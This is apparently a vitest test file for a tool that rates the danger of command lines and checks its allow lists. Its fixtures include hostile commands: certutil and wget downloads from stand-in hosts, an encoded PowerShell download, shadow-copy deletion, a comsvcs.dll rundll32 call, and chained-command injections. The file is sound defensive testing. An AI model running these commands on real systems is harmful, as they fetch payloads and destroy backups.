import { describe, expect, it } from 'vitest';
import { analyseCommandLine, COMMAND_VERDICTS, compileKnownGood, isTooWide, knownGoodOf } from './index.ts';
import { RULES } from './rules/index.ts';
import { BAD, DAILY } from './testing/lines.ts';
import { UNLISTED } from './testing/unlisted.ts';

describe('what attackers type', () => {
  it.each(BAD)('%s, %s: %s', (verdict, technique, line) => {
    const found = analyseCommandLine(line);
    expect({ verdict: found.verdict, rules: found.reasons.map(({ rule }) => rule) }).toMatchObject({ verdict });
    if (technique) expect(found.techniques).toContain(technique);
    expect(found.confidence).toBeGreaterThan(0.5);
  });
});

it.each(UNLISTED)('does not take for good what it does not know: %j', (line) => {
  expect(analyseCommandLine(line).verdict).not.toBe('benign');
});

describe('what is done every day', () => {
  it.each(DAILY)('%s', (line) => {
    const { verdict, reasons } = analyseCommandLine(line);
    expect({ verdict, rules: reasons.map(({ rule }) => rule) }).not.toMatchObject({ verdict: 'malicious' });
    expect(['benign', 'unknown']).toContain(verdict);
  });

  it('calls some of it good, and none that goes on with another command', () => {
    expect(analyseCommandLine('git status').verdict).toBe('benign');
    expect(analyseCommandLine('git status & certutil -urlcache -f http://drop.example/a a').verdict).toBe('malicious');
    expect(analyseCommandLine('ls -la; wget http://203.0.113.9/x').verdict).not.toBe('benign');
  });
});

it('has each rule once, with known techniques and a gate in small letters', () => {
  const ids = RULES.map(({ id }) => id);
  expect(new Set(ids).size).toBe(ids.length);
  for (const { techniques, gate, weight } of RULES) {
    expect(techniques.every((id) => /^T\d{4}(\.\d{3})?$/.test(id))).toBe(true);
    expect(gate).toEqual(gate.map((text) => text.toLowerCase()));
    expect(weight).toBeGreaterThan(0);
  }
});

it('has no rule that looks for the end of a run in every part of it', () => {
  const patterns = RULES.flatMap(({ find, not = [] }) => [...find, ...not].map(({ source }) => source));
  const twice = /(\\[wWsSdD]|\.|\[[^\]]+\])[*+](?:\\?\w\??|\[[^\]]+\])?\1(?:[*+]|\{)/;
  expect(patterns.filter((source) => twice.test(source))).toEqual([]);
  expect(['rm -\\w*r\\w*f?', '-\\w*[cd]\\w*\\s', '\\S*\\S{0,60}'].every((source) => twice.test(source))).toBe(true);
});

it('points to the words that gave it away', () => {
  const { reasons, normalised } = analyseCommandLine('cmd /c cer^tutil -urlcache -f http://drop.example/a.exe a.exe');
  const words = reasons[0]!.spans.map(({ start, end }) => normalised.text.slice(start, end));
  expect(words.join(' ')).toContain('certutil');
});

it('names what is hidden in the line', () => {
  const line = `powershell -e ${Buffer.from('iwr https://drop.example/a -o C:\\Temp\\a.exe', 'utf16le').toString('base64')}`;
  const { indicators, normalised } = analyseCommandLine(line);
  expect(indicators).toContainEqual({ type: 'url', value: 'https://drop.example/a' });
  expect(normalised.decoded[0]).toContain('https://drop.example/a');
});

describe('known-good lists', () => {
  const list = (...patterns: string[]) => ({ knownGood: compileKnownGood(patterns) });
  it('take out what an administrator knows', () => {
    const line = '"C:\\Tools\\psexec.exe" \\\\till-12 -s C:\\Tools\\inventory.cmd';
    expect(analyseCommandLine(line).verdict).toBe('suspicious');
    expect(
      analyseCommandLine(line, list('c:\\tools\\psexec.exe \\\\till-* -s c:\\tools\\inventory.cmd')),
    ).toMatchObject({
      verdict: 'benign',
      reasons: [],
    });
  });
  it.each(['&', '|', ';', '`', '$(', '\n', '>', '<'])('a star stands for no %j', (sign) => {
    const line = `C:\\Tools\\scan.exe till-1 ${sign} vssadmin delete shadows /all`;
    expect(analyseCommandLine(line, list('c:\\tools\\scan.exe *')).verdict).toBe('malicious');
  });
  it.each<[what: string, pattern: string, line: string]>([
    ['another program before it', '*\\agent.exe --update', 'powershell -enc AAAA \\agent.exe --update'],
    ['a program that loads something', '*\\agent.exe --update', 'rundll32 comsvcs.dll,Go 1 \\agent.exe --update'],
    ['a program in another folder', 'c:\\tools\\*', 'c:\\tools\\..\\temp\\evil.exe'],
    [
      'a way out of a folder',
      'powershell.exe -file c:\\scripts\\*',
      'powershell.exe -file c:\\scripts\\..\\users\\ann\\evil.ps1',
    ],
    [
      'what is worked out',
      'powershell.exe -file c:\\scripts\\*',
      'powershell.exe -file c:\\scripts\\a.ps1 -x (iwr http://drop.example)',
    ],
  ])('a star stands for no %s', (_what, pattern, line) => {
    expect(analyseCommandLine(line, list(pattern)).knownGood).toBeNull();
  });
  it.each<[pattern: string, line: string]>([
    ['c:\\program files\\till\\*', '"C:\\Program Files\\Till\\pos.exe" --store 4'],
    ['c:\\program files\\till\\*', 'C:\\Program Files\\Till\\pos.exe'],
    ['*\\agent.exe --update', 'D:\\apps\\agent.exe --update'],
    ['robocopy \\\\files\\feed *', 'robocopy  \\\\FILES\\feed  D:\\feed /mir'],
    ['inventory*', 'inventory.exe /all'],
  ])('%j fits %j', (pattern, line) => {
    expect(analyseCommandLine(line, list(pattern)).knownGood).toBe(pattern);
  });
  it('a pattern with a star clears nothing that is malicious by itself; one without does', () => {
    const line = 'vssadmin delete shadows /all /quiet';
    expect(analyseCommandLine(line, list('vssadmin delete *'))).toMatchObject({
      verdict: 'malicious',
      knownGood: null,
    });
    expect(knownGoodOf(line, compileKnownGood(['vssadmin delete *']))).toBeNull();
    expect(analyseCommandLine(line, list(line))).toMatchObject({ verdict: 'benign', knownGood: line });
    expect(knownGoodOf(line, compileKnownGood([line]))).toBe(line);
  });
  it.each([
    'C:\\Users\\bob\\evil.exe \\windows\\system32\\gpupdate.exe',
    'rundll32 C:\\t\\a.dll,Go C:\\windows\\system32\\taskhostw.exe',
    'D:\\x\\mozilla firefox\\firefox.exe -contentproc x',
    'C:\\evil C:\\windows\\system32\\gpupdate.exe',
    'C:\\Users\\Public\\windows\\system32\\svchost.exe -k netsvcs',
    'apt-get install -y ./evil.deb',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=gpu-process --gpu-launcher="C:\\Users\\Public\\evil.exe"',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --load-extension=C:\\Users\\Public\\x',
    '"C:\\Program Files\\Git\\cmd\\git.exe" status -c core.fsmonitor=C:\\Users\\Public\\evil.exe',
    '/usr/lib/systemd/systemd-run /tmp/evil.sh',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n C:\\Users\\ann\\Downloads\\invoice.docm',
    'C:\\Windows\\System32\\svchost.exe -k evilsvc',
    'C:\\Windows\\System32\\svchost.exe -k netsvcs & calc',
    'npm run evil',
  ])('the shipped list does not know: %s', (line) => {
    expect(analyseCommandLine(line).verdict).not.toBe('benign');
  });
  it.each<[pattern: string, wide: boolean]>([
    ['powershell.exe *', true],
    ['C:\\Windows\\System32\\rundll32.exe *', true],
    ['*.exe *', true],
    ['*', true],
    ['c:\\*', true],
    ['cmd*', true],
    ['powershell.exe -file c:\\scripts\\*', false],
    ['rundll32.exe printui.dll,PrintUIEntry *', false],
    ['c:\\program files\\till\\*', false],
    ['inventory*', false],
    ['robocopy *', false],
  ])('%j is too wide: %s', (pattern, wide) => {
    expect(isTooWide(pattern)).toBe(wide);
  });
  it('take a pattern as it is written', () => {
    expect(compileKnownGood(['*', ' ** ', ''])).toEqual([]);
    expect(analyseCommandLine('a.exe (x+)+$', list('a.exe (x+)+$')).knownGood).toBe('a.exe (x+)+$');
  });
});

it('is the same for the same line', () => {
  for (const [, , line] of BAD.slice(0, 20)) {
    expect(analyseCommandLine(line)).toEqual(analyseCommandLine(line));
    expect(COMMAND_VERDICTS).toContain(analyseCommandLine(line).verdict);
  }
});
